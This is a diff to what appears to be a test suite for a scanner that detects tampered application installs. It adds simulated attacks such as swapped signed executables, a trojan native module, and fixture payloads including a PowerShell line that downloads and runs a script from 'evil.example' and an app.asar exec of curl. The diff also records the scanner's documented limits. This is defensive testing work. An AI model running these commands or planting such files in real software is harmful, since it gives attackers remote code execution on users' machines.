@@ -44,7 +44,7 @@ function contoso(root: string, get: Get, version: '2.0.5' | '2.0.6', prefix = ''
 interface Attack {
   name: string;
   from: string;
-  expect: 'low' | 'medium' | 'high' | 'critical';
+  expect: 'info' | 'low' | 'medium' | 'high' | 'critical';
   /** Steps after the baseline; the result of the last is judged, the others must each reach `expect` too when `each`. */
   steps: ((root: string, get: Get) => void)[];
   each?: boolean;
@@ -75,6 +75,41 @@ const ATTACKS: Attack[] = [
       (r, get) => {
         copyFileSync(join(get('@vscode/vsce-sign-win32-x64', '2.0.6'), 'bin', 'vsce-sign.exe'), join(r, 'contoso-helper.exe'));
         put(r, 'pty.node', trojan());
+      },
+    ],
+  },
+  {
+    name: 'version-source hijack, second form: the main executable removed and a genuine newer Microsoft-signed exe dropped as contoso2.exe, with pty.node swapped',
+    from: 'vsce-sign 2.0.5 / 2.0.6; clipboardy exe',
+    expect: 'high',
+    steps: [
+      (r, get) => {
+        rmSync(join(r, 'contoso.exe'));
+        copyFileSync(join(get('@vscode/vsce-sign-win32-x64', '2.0.6'), 'bin', 'vsce-sign.exe'), join(r, 'contoso2.exe'));
+        put(r, 'pty.node', trojan());
+      },
+    ],
+  },
+  {
+    name: 'a rewritten app.asar and a new unsigned module timed with a real update (contoso.exe 2.0.5 → 2.0.6) — the documented limit: listed, not raised',
+    from: 'vsce-sign 2.0.5 → 2.0.6; clipboardy exe',
+    expect: 'info',
+    steps: [
+      (r, get) => {
+        contoso(r, get, '2.0.6');
+        put(r, 'resources/app.asar', 'require("child_process").exec("curl evil")');
+        put(r, 'pty.node', trojan());
+      },
+    ],
+  },
+  {
+    name: 'a new .ps1 launch script timed with a real update',
+    from: 'vsce-sign 2.0.5 → 2.0.6',
+    expect: 'low',
+    steps: [
+      (r, get) => {
+        contoso(r, get, '2.0.6');
+        put(r, 'resources/postinstall.ps1', 'iwr https://evil.example/x.ps1 | iex\n');
       },
     ],
   },
@@ -149,8 +184,10 @@ async function runOne(a: Attack, get: Get): Promise<AttackResult> {
       results.push(s.scan(root, 'contoso'));
     }
     const judged = a.each ? results : results.slice(-1);
-    const held = judged.every((r) => rank(top(r)) >= rank(a.expect));
-    return { name: a.name, from: a.from, expect: `${a.expect} or above${a.each ? ', at each step' : ''}`, got: results.map((r, i) => `${results.length > 1 ? `step ${i + 1}: ` : ''}${got(r)}`).join(' / '), held };
+    // `info` and `low` expectations are the documented limits (a change timed with a real update): they hold when the
+    // change is at least listed (UPDATE_EXPLAINED / NEW_SCRIPT) and never raised above what the README says.
+    const held = a.expect === 'info' || a.expect === 'low' ? judged.every((r) => top(r) === a.expect && r.findings.length > 0) : judged.every((r) => rank(top(r)) >= rank(a.expect));
+    return { name: a.name, from: a.from, expect: a.expect === 'info' || a.expect === 'low' ? `${a.expect} (documented limit)` : `${a.expect} or above${a.each ? ', at each step' : ''}`, got: results.map((r, i) => `${results.length > 1 ? `step ${i + 1}: ` : ''}${got(r)}`).join(' / '), held };
   } finally {
     rmSync(s.dir, { recursive: true, force: true });
   }
